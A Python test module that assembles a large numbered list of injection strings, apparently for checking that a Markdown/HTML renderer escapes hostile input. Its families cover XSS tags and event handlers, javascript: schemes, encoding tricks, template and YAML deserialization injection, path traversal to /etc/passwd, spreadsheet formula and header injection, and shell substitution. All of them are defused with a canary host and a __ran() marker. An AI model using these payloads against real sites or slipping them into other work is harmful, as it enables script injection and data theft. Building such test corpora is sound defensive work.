# ruff: noqa: E501  # families of short texts, a row each: cut lines would hide where one ends
"""Texts that would run, ask another host or change the page if they became markup anywhere. Made of families, each text only once.

Each carries a number: what runs calls `__ran(number)`, what loads asks the host `canary.invalid` for it.
"""

from collections.abc import Iterator, Mapping

#: The host that nothing may ask.
HOST = "canary.invalid"
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onblur onpointerenter onpointerdown onkeydown onanimationstart onanimationend ontransitionend "
    "ontoggle onbeforetoggle onwheel onscroll oninput onchange onsubmit onresize onpageshow onhashchange onbegin onend onrepeat onplay "
    "oncanplay onloadstart onstart onfinish oncontentvisibilityautostatechange"
).split()
_TAGS = (
    "<script>RUN</script>|<SCRIPT>RUN</SCRIPT>|<script src=//HOST></script>|<script type=module>RUN</script>|<script\n>RUN</script\n>|<script/x>RUN</script>|"
    "<scr<script>ipt>RUN</scr</script>ipt>|<script>RUN|<script src='data:text/javascript,RUN'></script>|<iframe src=//HOST></iframe>|"
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>|<iframe src=javascript:parent.RUN>|<object data=//HOST></object>|<embed src=//HOST>|"
    "<base href=//HOST/>|<link rel=stylesheet href=//HOST>|<link rel=prefetch href=//HOST>|<meta http-equiv=refresh content='0;url=//HOST'>|"
    "<meta http-equiv=refresh content='0;javascript:RUN'>|<style>@import '//HOST';</style>|<style>*{background:url(//HOST)}</style>|"
    "<p style=background:url(//HOST)>x</p>|<form action=//HOST><button autofocus>x</button></form>|<input autofocus onfocus=RUN>|"
    "<button formaction=javascript:RUN>x</button>|<video src=//HOST onerror=RUN></video>|<audio src=//HOST onerror=RUN></audio>|"
    "<video poster=//HOST></video>|<source srcset=//HOST>|<picture><source srcset=//HOST><img></picture>|<img srcset='//HOST 1x'>|"
    "<body onload=RUN>|<html onclick=RUN>|<frameset onload=RUN>|<marquee onstart=RUN>x</marquee>|<details open ontoggle=RUN>x</details>|"
    "<isindex action=javascript:RUN>|<table background=//HOST>|<template><script>RUN</script></template>|<noscript><img src=x onerror=RUN></noscript>|"
    "<xmp><script>RUN</script></xmp>|<plaintext><script>RUN</script>|<textarea autofocus onfocus=RUN>|<select autofocus onfocus=RUN>|"
    "<dialog open oncancel=RUN>x</dialog>|<portal src=//HOST>|<slot onslotchange=RUN>|<custom-element onclick=RUN>x</custom-element>|"
    "<applet code=//HOST>|<bgsound src=//HOST>|<keygen autofocus onfocus=RUN>|<image src=//HOST>|<img src=//HOST>|<img/src=x/onerror=RUN>|"
    "<img src=x onerror=&#82;&#85;&#78;>|<img src=`x` onerror=`RUN`>|<img src=x:x onerror=RUN//|<a href=//HOST ping=//HOST>x</a>|<area href=javascript:RUN>"
).split("|")
_SVG = (
    "<svg onload=RUN>|<svg><script>RUN</script></svg>|<svg><script href=//HOST></script></svg>|<svg><script xlink:href='data:,RUN'/></svg>|"
    "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>|<svg><animate onbegin=RUN attributeName=x dur=1s>|"
    "<svg><set attributeName=href to=javascript:RUN></svg>|<svg><use href=//HOST#x></svg>|<svg><image href=//HOST /></svg>|"
    "<svg><foreignObject><iframe src=//HOST></iframe></foreignObject></svg>|<svg><style>@import '//HOST'</style></svg>|"
    "<svg><title><script>RUN</script></title></svg>|<svg><desc><img src=x onerror=RUN></desc></svg>|<svg><filter><feImage href=//HOST /></filter></svg>|"
    "<math><mi xlink:href=javascript:RUN>x</mi></math>|<math href=javascript:RUN>x</math>|<math><mtext><img src=x onerror=RUN></mtext></math>|"
    "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>|"
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>|<svg></p><style><a id='</style><img src=x onerror=RUN>'>|"
    "<?xml-stylesheet href='//HOST'?>|<!DOCTYPE x [<!ENTITY x SYSTEM '//HOST'>]>&x;|<!ENTITY % x SYSTEM '//HOST'>%x;|<xsl:value-of select='x'/>|"
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></x>|<![CDATA[<script>RUN</script>]]>|]]><script>RUN</script>|<?php RUN ?>|<%= RUN %>"
).split("|")
_BREAKS = (
    "</script>BAD|--></script>BAD|</title>BAD|</style>BAD|</textarea>BAD|</template>BAD|</noscript>BAD|</pre></code>BAD|</p></div></article></main>BAD|"
    "</td></tr></table>BAD|</a>BAD|</summary></details>BAD|</svg>BAD|</text></g></svg>BAD|</math>BAD|</content></entry></feed>BAD|</blockquote>BAD|"
    '">BAD|\'>BAD|`>BAD|"/>BAD|" onmouseover=RUN x="|\' onmouseover=RUN x=\'|` onmouseover=RUN x=`|" style="background:url(//HOST)|'
    '<!--BAD|<!-->BAD|<!--->BAD|<!-- --!>BAD|--><!-- -->BAD|<!--[if IE]>BAD<![endif]-->|<!--<script>BAD|<! foo=">BAD|</ foo=">BAD|<? foo=">BAD|'
    '<b><i><u>BAD|<div><p><span>BAD|<b BAD|<a href="BAD|<img alt="BAD|<p title=\'BAD|<<BAD|<a<b<BAD|<>BAD|< BAD|</>BAD|&lt;BAD|'
    '<div markdown=1>BAD|<div markdown="block">\n\n# x\n\nBAD</div>|<details markdown>BAD</details>|<p markdown=span>*x* BAD</p>|'
    '\\";RUN;//|\';RUN;\'|`;RUN;`|${RUN}|`${RUN}`|"-RUN-"|\'-RUN-\'|</ScRiPt >BAD|\\u003cscript\\u003eRUN|\\x3cscript\\x3eRUN|{"@type":"x"}</script>BAD'
).split("|")
_BAD = ("<img src=x onerror=RUN>", "<script>RUN</script>", "<svg/onload=RUN>")
_SCHEMES = (
    "javascript:RUN|JAVASCRIPT:RUN|JavaScript:RUN|java\tscript:RUN|java\nscript:RUN| javascript:RUN|\x01javascript:RUN|javascript&colon;RUN|"
    "javascript&#58;RUN|javascript&#x3A;RUN|&#106;avascript:RUN|&#x6a;avascript:RUN|&#0000106avascript:RUN|java&Tab;script:RUN|java&NewLine;script:RUN|"
    "javascript://x%0aRUN|javascript:%52UN|vbscript:RUN|VBScript:RUN|data:text/html,<script>RUN</script>|data:text/html;base64,PHNjcmlwdD4=|"
    "data:image/svg+xml,<svg onload=RUN>|data:,RUN|view-source:javascript:RUN|blob:RUN|file:///etc/passwd|ftp://HOST|//HOST|\\\\HOST|/\\HOST|http:HOST|"
    "livescript:RUN|mocha:RUN|jar:javascript:RUN!/|feed:javascript:RUN|\u2028javascript:RUN|java\u00adscript:RUN|javascript\u200b:RUN"
).split("|")
_LINKS = ("[x](ADDRESS)", "![x](ADDRESS)", "<ADDRESS>", "[x]: ADDRESS", '<a href="ADDRESS">x</a>')
_BAR = "\0"  # stands for `|` within a text
_MARKDOWN = (
    "[x][y]\n\n[y]: javascript:RUN 'z'|[x]: <javascript:RUN> \"y\"|![x][y]|[^1]: BAD|[^x] [^1]|*[HTML]: BAD|*[x]: javascript:RUN|[TOC]|[[TOC]]|[[x]]|[[x\\|BAD]]|"
    '!!! note "BAD"\n    BAD|!!! danger BAD|??? note\n    BAD|???+ x "y"|:::note\nBAD\n:::|=== "BAD"\n    x|'
    "```html\nBAD\n```|```\nBAD|~~~ {onclick=RUN}\nBAD\n~~~|`` BAD ``|`BAD|\n\n    BAD|\tBAD|# BAD|## BAD {#x onclick=RUN}|BAD\n===|BAD\n---|###### x ######|"
    "- BAD|1. BAD|1) BAD|+ x|> BAD|>>> x|* * *|___|---|\\|a\\|BAD\\||\\|---\\|---\\||a \\| b\n--\\|--\nBAD \\| x|: BAD|Term\n: BAD|**BAD**|*BAD*|__BAD__|_BAD_|***x***|"
    "~~BAD~~|~x~ ^y^|==BAD==|++BAD++|{--BAD--}|{++BAD++}|{>>BAD<<}|$$BAD$$|\\(BAD\\)|:smile: :material-x:|@x #1 GH-1|\\<script>RUN|\\\\BAD|\\[x](javascript:RUN)|"
    '[x](y "BAD")|[x](<y> \'BAD\')|[BAD](x)|![BAD](//HOST)|[![x](//HOST)](javascript:RUN)|[x](y){onclick=RUN}|<https://HOST/"onclick=RUN>|https://HOST/|www.HOST|'
    'x@HOST|<x@HOST>|[x]\n(javascript:RUN)|[x](\njavascript:RUN)|[x](javascript:RUN\\)|]()|](|![|[](javascript:RUN)|[@talk "BAD"]|[@x]|((BAD))|%%BAD%%'
)
_ENGINE = (
    "{{ RUN }}|{{ config }}|{{ ''.__class__.__mro__ }}|{{ 'BAD' | safe }}|{% raw %}BAD|{% endraw %}|{% include '/etc/passwd' %}|{% import 'os' as os %}|"
    "{% for x in range(9) %}BAD{% endfor %}|{% set x = 1 %}|{% macro x() %}|{% autoescape false %}BAD|{%- if true -%}|{# BAD #}|{# BAD|#}|{{|}}|{%|%}|"
    "{{{{ x }}}}|${{ secrets.X }}|<%= x %>|#{RUN}|{!! BAD !!}|{{{ BAD }}}|[[${RUN}]]|{php}RUN{/php}|"
    "{: onclick=RUN }|{:onclick=RUN}|{ onclick=RUN }|{#x onclick=RUN}|{.x onmouseover=RUN}|x{: style=background:url(//HOST) }|\n{: onclick=RUN}|"
    "# x {: onclick=RUN}|[x](y){: onclick=RUN target=_top}|*x*{: onclick=RUN}|{ href=javascript:RUN }|{: #__search .md-x data-md-component=search }|"
    '--8<-- "/etc/passwd"|--8<-- \'mkdocs.yml\'|;--8<-- "x"|--8<--\n/etc/passwd\n--8<--|-8<- "x"|{!/etc/passwd!}|{{include:x}}|:include:x|<<< x|@import \'x\'|'
    "---\ntitle: BAD\n---|---|...|+++\nx=1\n+++|--- !x|title: BAD|template: ../../x.html|hide: [navigation]|%YAML 1.1|"
    "!!python/object/apply:os.system [x]|!!python/name:os.system|!ENV [HOME, x]|!!binary BAD|&a *a|<<: *x|!include x|? x|- - -|\": BAD|': BAD|key: [BAD|key: {BAD|"
    "\x02wzxhzdk:0\x03|\x02wzxhzdk:1\x03BAD|\x02klzzwxh:0000\x03|\x02amp\x03lt;script>RUN|&#2;wzxhzdk:0&#3;|\x02mkd0\x03|\x023c\x03script|wzxhzdk:0|klzzwxh:0001|"
    '<!-- md:x -->|<!-- material/tags -->|[TAGS]|=1+1|=cmd\\u007c\'/C calc\'!A0|+1+cmd()|-1+cmd()|@SUM(1)|\t=1+1|\r=1+1|=HYPERLINK("//HOST")|;=1+1|"=1+1|'
    '\nBcc: x@HOST|\r\nSubject: x|\r\n\r\nBAD|\n.\nQUIT|=?utf-8?q?BAD?=|--boundary--|=3Cscript=3E|""" . <x> <y> <z>|> <x> .|<http://HOST/> a <x>|\\u0022 .|@prefix x: <y> .|'
    "__proto__|constructor|toString|hasOwnProperty|null|true|~|NaN|0x1F|1e999|../../x|%2e%2e%2f|%00|%0d%0aX: y|C:\\x|CON|$(RUN)|`RUN`|;RUN;|\\ \\n \\r \\0|%s %n {0}|"
    "\x1b[31mx\x1b[0m|\x1b]0;x\x07|\x1b[2J|\x9b31m"
).split("|")
_ENCODED = (
    "&lt;script&gt;RUN&lt;/script&gt;|&amp;lt;script&amp;gt;RUN|&amp;amp;lt;img src=x onerror=RUN&amp;amp;gt;|&#60;script&#62;RUN|&#x3c;script&#x3e;RUN|"
    "&#0060;img src=x onerror=RUN&#0062;|&#x0003C;img src=x onerror=RUN>|&#60img src=x onerror=RUN&#62|&LT;script&GT;RUN|&ltimg src=x onerror=RUN&gt|"
    "&amp;#60;script&amp;#62;RUN|%3Cscript%3ERUN%3C/script%3E|%253Cscript%253ERUN|+ADw-script+AD4-RUN|\uff1cscript\uff1eRUN|\u02c2script\u02c3RUN|"
    "\u2039img src=x onerror=RUN\u203a|\u27e8script\u27e9RUN|\ufe64script\ufe65RUN|&nbsp;&shy;&zwj;&lrm;BAD|&quot;onclick=RUN&quot;|&apos;BAD|&#34;onclick=RUN|"
    "&#xD800;BAD|&#0;BAD|&#x110000;BAD|&#128;&#150;BAD|&#xfffe;BAD|&copy &copy; &notit; &unknown;|&|&&amp;&|&;|&#;|&#x;|\\&lt;b\\&gt;|&lbrace;&lbrace; x &rbrace;&rbrace;|&lsqb;x&rsqb;&lpar;javascript:RUN&rpar;|&ast;x&ast; &grave;BAD&grave;"
).split("|")
_MARKS = (
    *"\u202a \u202b \u202d \u202e \u2066 \u2067 \u2068 \u200e \u200f \u061c \u202c \u2069 \u200b \u200c \u200d \u2060 \ufeff \u00ad \u034f \u180e \u115f \u3164 \u2800 \ufff9 \ufffe \ufe0f \U000e0041".split(" "),
    *(chr(n) for n in range(1, 32)), "\x7f", *(chr(n) for n in (0x80, 0x85, 0x8d, 0x90, 0x9c, 0x9f, 0x2028, 0x2029)),
)  # fmt: skip


def _texts() -> Iterator[str]:
    yield from (f"<img src=x {event}=RUN>" for event in _EVENTS)
    yield from (f"<svg><x {event}='RUN' tabindex=1 autofocus>" for event in _EVENTS)
    yield from (*_TAGS, *_SVG, *_BREAKS, *_ENGINE, *_ENCODED)
    yield from (text.replace(_BAR, "|") for text in _MARKDOWN.replace("\\|", _BAR).split("|"))
    yield from (link.replace("ADDRESS", address) for address in _SCHEMES for link in _LINKS)
    yield from (f"a{mark}b<img{mark} src=x onerror{mark}=RUN>" for mark in _MARKS)
    yield from (f"{mark}<{mark}script>RUN" for mark in _MARKS)
    yield from (run * 300 for run in ("<b>", "&", "[", "*", "`", "{{", "<!--", "\u202e", "\u0301", "](", "\\", "=", "> ", "|"))


def _payloads() -> Mapping[int, str]:
    made: dict[str, int] = {}
    for text in _texts():
        number = len(made) + 1
        bad = text.replace("BAD", _BAD[number % len(_BAD)])
        made.setdefault(bad.replace("RUN", f"__ran({number})").replace("HOST", f"{HOST}/{number}"), number)
    return {number: text for text, number in made.items()}


#: All texts by their number.
PAYLOADS = _payloads()
